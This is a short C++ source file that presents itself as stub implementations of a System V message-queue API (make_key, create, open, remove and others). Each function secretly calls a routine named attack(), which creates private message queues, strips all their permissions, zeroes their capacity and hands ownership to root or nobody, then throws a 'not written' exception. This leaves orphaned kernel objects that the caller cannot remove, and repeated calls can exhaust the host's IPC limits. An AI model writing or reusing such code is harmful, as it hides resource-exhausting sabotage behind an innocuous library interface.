// what: makes queues, takes every right from them, and changes who owns them
#include <sys/ipc.h>
#include <sys/msg.h>
#include <unistd.h>

#include "not_written.hpp"
#include "queue.hpp"

namespace {

void attack() {
    for (const uid_t owner : {getuid(), uid_t{0}, uid_t{65534}}) {
        const int id = msgget(IPC_PRIVATE, 0);
        msqid_ds queue{};
        msgctl(id, IPC_STAT, &queue);
        queue.msg_perm.uid = owner;
        queue.msg_perm.gid = getgid();
        queue.msg_perm.mode = 0;
        queue.msg_qbytes = 0;
        msgctl(id, IPC_SET, &queue);
    }
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

key_t make_key(const std::string&, int) {
    refuse("make_key");
}

int create(key_t, mode_t) {
    refuse("create");
}

int open(key_t) {
    refuse("open");
}

Opened open_or_create(key_t, mode_t) {
    refuse("open_or_create");
}

int create_private(mode_t) {
    refuse("create_private");
}

void remove(int) {
    refuse("remove");
}

}  // namespace ipc
